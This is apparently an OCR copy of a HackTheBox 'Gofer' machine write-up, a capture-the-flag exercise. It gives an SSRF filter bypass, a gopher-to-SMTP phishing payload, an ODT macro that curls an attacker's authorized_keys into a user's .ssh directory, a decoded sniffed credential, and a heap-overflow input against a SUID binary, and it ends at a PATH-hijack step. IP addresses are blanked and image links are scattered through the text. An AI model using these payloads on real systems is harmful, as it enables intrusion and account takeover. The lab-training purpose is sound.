[HackTheBox Write-Up: Gofer] - [Hard]


In today's write-up, we'll delve into the Gofer machine from HackTheBox. The machine provides a fascinating journey through various vulnerabilities, emphasizing the importance of keen observation, thorough enumeration, and the versatility of skills required in penetration testing.

Initial Reconnaissance

The adventure commenced with a standard nmap scan against the IP The scan revealed several open ports, with services like SSH, Apache, and Samba running.

# Nmap 7.94 scan initiated Sun Jul 30 03:01:59 2023 as: nmap -sC -sV -oN nmap gofer.htb
Nmap scan report for gofer.htb (
Host is up (0.14s latency).
Not shown: 995 closed tcp ports (conn-refused)
22/tcp  open     ssh         OpenSSH 8.4p1 Debian 5+deb11u1 (protocol 2.0)
| ssh-hostkey:
|   3072 aa:25:82:6e:b8:04:b6:a9:a9:5e:1a:91:f0:94:51:dd (RSA)
|   256 18:21:ba:a7:dc:e4:4f:60:d7:81:03:9a:5d:c2:e5:96 (ECDSA)
|_  256a4:2d:0d:45:13:2a:9e:7f:86:7a:f6:f7:78:bc:42:d9 (ED25519)
25/tcp  filtered smtp
80/tcp  open     http        Apache httpd 2.4.56
|_http-server-header: Apache/2.4.56 (Debian)
|_http-title: Gofer
139/tcp open     netbios-ssn Samba smbd 4.6.2
445/tcp open     netbios-ssn Samba smbd 4.6.2
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel

Host script results:
| smb2-security-mode:
|   3:1:1:
|_    Message signing enabled but not required
| smb2-time:
|   date: 2023-07-29T19:02:56
|_  start_date: N/A
|_nbstat: NetBIOS name: GOFER, NetBIOS user: <unknown>, NetBIOS MAC: <unknown> (unknown)

Service detection performed. Please report any incorrect results at https://nmap.org/submit/ .
# Nmap done at Sun Jul 30 03:03:02 2023 -- 1 IP address (1 host up) scanned in 63.11 seconds

The initial exploration of the web server didn't yield significant findings, except for an "About Us" section that listed team names and their roles—a detail that would come in handy later.

Gaining Initial AccessOur attention turned to the Samba shares. It was open for anonymous login, revealing a .backup directory and a "mail" file within. This file contained an email that provided valuable insights into theinternal communication of the team and hinted at potential vulnerabilities related to file formats and the web proxy.

From [email protected]  Fri Oct 28 20:29:30 2022
Return-Path: <[email protected]>
X-Original-To: [email protected]
Delivered-To: [email protected]
Received: from gofer.htb (localhost [])
        by gofer.htb (Postfix) with SMTP id C8F7461827
        for <[email protected]>; Fri, 28 Oct 2022 20:28:43 +0100 (BST)
Subject:Important to read!
Message-Id: <[email protected]>
Date: Fri, 28 Oct 2022 20:28:43 +0100 (BST)
From: [email protected]

Hello guys,

Our dear Jocelyn received another phishing attempt last week and his habit of clicking on links without paying much attention may be problematic one day. That's why from now on, I've decided that important documents will only be sent internally, by mail, which should greatly limit the risks. If possible, use an .odt format, as documents saved in Office Word are not always well interpreted by Libreoffice.

PS: Last thing for Tom; I know you're working on our web proxy but if you could restrict access, it will be more secure until you havefinished it. It seems to me that it should be possible to do so via <Limit>

Exploiting the Web Proxy

From the contents of the intercepted email, the potential for exploiting the Gopher protocol became evident. The goal was to utilize this protocol to dispatch an SMTP message directly to the internal port 25. This intricately crafted message was designed to house a link, leading to an .odt file. Hidden within this file was a meticulously designed Remote Code Execution (RCE) vulnerability.

To shed more light on potential entry points, a systematic subdomain fuzzing was initiated using ffuf. The command executed was:

ffuf -w $/wordlists/dns/subdomains.txt -u -H 'Host: FUZZ.gofer.htb' -mc all -fw 20

This diligent search revealed the proxy.gofer.htb subdomain. However, initial attempts to engage with the proxy using the GET method were met with staunch resistance - the response was an unwavering "unauthorized". It was at this juncture that a misconfiguration related to was identified and exploited. By switching to a POST method, we were able to navigate past this roadblock.

Yet another challenge presented itself when attempts to reference localhost using the standard, localhost, or even the abbreviated 127 were blocked — all of these were on the blacklist. But every system has a chink in its armor. In this case, it was the overlookedrepresentation of localhost as 0. Using this representation, we successfully bypassed the filter, leading to the crafting and deployment of the final payload.

gopher://0:25/_MAIL FROM:<[email protected]>
RCPT To:<[email protected]>
From:[email protected]
Subject:Client Docs
Message:<a href=">clients.odt</a>

Dispatching the request

POST /index.php?url=gopher%3a//0%3a25/_MAIL%2520FROM%3a<jdavis%2540gofer.htb>%250ARCPT%2520To%3a<jhudson%2540gofer.htb>%250ADATA%250AFrom%3ajdavis%2540gofer.htb%250ASubject%3aClient%2520Docs%250AMessage%3a%253Ca%2520href%253D%2522http%3a// HTTP/1.1
Host: proxy.gofer.htb

We also used ffuf to uncover index.php endpoint and it's url parameter

Crafting the Malicious ODT Document

Given the preference for .odt documents (as per the email), the next logical step was to create a malicious document that would allow for further exploitation. Using LibreOffice, an .odt document was crafted with a macro. The embedded macro was designed to fetch an authorized_keys file from an external server and place it into the jhudson user's SSH directory, potentially granting us SSH access to the machine using our public key.

Macro Details

The embedded macro within the .odt document is as follows:Sub Main
 Shell("curl -o /home/jhudson/.ssh/authorized_keys")
End Sub

This script, when executed, will reach out to our server at to fetch the authorized_keys file. This file contains the public SSH key of the attacker. By placing this key into the jhudson user's .ssh directory, it allows the attacker to SSH into the machine as the jhudson user without needing a password.Privilege Escalation

Analyzing the System with linpeas.sh

Once inside the machine as the jhudson user, the next goal was to escalate privileges. For this, linpeas.sh was used, a popular script that checks for potential paths to escalate privileges on Linux systems. While the script provided multiple points of interest, one particular finding stood out: the presence of tcpdump on the system.

Capturing NetworkTraffic with tcpdump

Leveraging the tcpdump utility, network traffic was captured to observe any interesting or revealing information. Among the traffic, a notable HTTP request was observed:

GET /index.php?url= HTTP/1.1
Host: proxy.gofer.htb
Authorization: Basic dGJ1Y2tsZXk6b29QNGRpZXRpZTNvX2hxdWFldGk=

The Authorization header contained a Base64-encoded value.

Decoding Credentials

Decoding the Base64 value dGJ1Y2tsZXk6b29QNGRpZXRpZTNvX2hxdWFldGk= revealedcredentials in the format username:password, which turned out to be Tom's (tbuckley) credentials.

SSH as Tom

Using Tom's credentials, another SSH login attempt was made:

It's noteworthy that while the previously compromised user, jhudson, had access to the machine, they lacked the necessary privileges to execute certain binaries. This made escalating to tbuckley essential, as it provided the required permissions.

Unknown SUID Binary Exploitation & Privilege Escalation to Root

Discovering the Binary

Upon gaining access as tbuckley, further enumeration revealed an intriguing SUID binary located at /usr/local/bin/notes. The SUID bit set on a binary means that when the binary is executed, it runs as the owner of the file (in this case, root) rather than the user who ran it. This is a potential vector for privilege escalation if the binary can be exploited.The file permissions were particularly interesting:

-rwsr-s--- 1 root dev 17K Apr 28 16:06 /usr/local/bin/notes

The notes binary was owned by root and had the SUID bit set, but it was also executable by members of the dev group. Since tbuckley was a member of this group, it meant that the binary could be executed with root privileges.

Exploring the binary

tbuckley@gofer:~$ /usr/local/bin/notes
1) Create an user and choose an username
2) Show user information
3) Delete an user
4) Write a note
5) Show a note
6) Save a note (not yet implemented)
7) Delete a note
8) Backup notes
9) Quit

Your choice:

Reversing the binary

void main(void)

  __uid_t _Var1;
  int iVar2;
  undefined4 local_1c;
  void *local_18;
  void *local_10;
  local_1c = 0;
  local_10 = (void *)0x0;
  local_18 = (void *)0x0;
  do {
        "===\n1) Create an user and choose an username\n2) Show user information\n3)Delete an user\n4) Write a note\n5) Show a note\n6) Save a note (not yet implemented)\n7) Delete a note\n8) Backup notes\n9) Quit\n===\n\n"
    printf("Your choice: ");
    switch(local_1c) {
                    // WARNING: Subroutine does not return
    case 1:
      local_10 = malloc(0x28);
      if (local_10 == (void *)0x0) {
                    // WARNING: Subroutine does not return
      memset((void *)((long)local_10 + 0x18),0,0x10);
      _Var1 = getuid();
      if (_Var1 == 0) {
        *(undefined4 *)((long)local_10 + 0x18) = 0x696d6461;
        *(undefined *)((long)local_10 + 0x1c) = 0x6e;
      else {
        *(undefined4 *)((long)local_10 + 0x18) = 0x72657375;
      printf("Choose an username: ");
    case 2:
      if (local_10 == (void *)0x0) {
        puts("First create an user!\n");
      else {
        printf("\nUsername: %s\n",local_10);
        printf("Role: %s\n\n",(long)local_10 + 0x18);
    case 3:
      if (local_10 != (void *)0x0) {
    case 4:
      local_18 = malloc(0x28);
      if (local_18 == (void *)0x0) {
                    // WARNING: Subroutine does not return
      puts("Write your note:");
    case 5:
      printf("Note: %s\n\n",local_18);
    case 6:
      puts("Coming soon!\n");
    case 7:
      if (local_18 != (void *)0x0) {
        local_18 = (void *)0x0;
    case 8:
      if (local_10 == (void *)0x0) {
        puts("First create an user!\n");
      else {
        iVar2 = strcmp((char *)((long)local_10 + 0x18),"admin");
        if (iVar2 == 0) {
          puts("Access granted!");
          system("tar -czvf /root/backups/backup_notes.tar.gz /opt/notes");
        else {
          puts("Access denied: you don\'t have the admin role!\n");
  } while( true );

We can observe several potential vulnerabilities and logic flaws that might be exploitable:

  • Buffer Overflow to Set Role
  • Exploit the Backup Function

Once our role is "admin", the "Backup notes" optionwill execute the tar command as root. If we can influence the path we might be able to exploit tar to gain a root shell.

Exploiting Buffer Overflow in Note Creation

From the reversed binary, it was evident that the program has a buffer overflow vulnerability when creating a note. This was exploited by providing an overly long note input that spills over into the adjacent memory storing the user's role.

  • create a user
  • delete a user
  • create a note: AAAAAAAAAAAAAAAAAAAAAAAAadmin

We effectively setour role as "admin".

  • backup notes
  • exit

Command Hijacking via PATH Manipulation

With the role set to "admin", the next goal was to exploit the "Backup notes" option that uses the tar command via a system call. To exploit this, a malicious tar script was crafted to execute a bash shell:


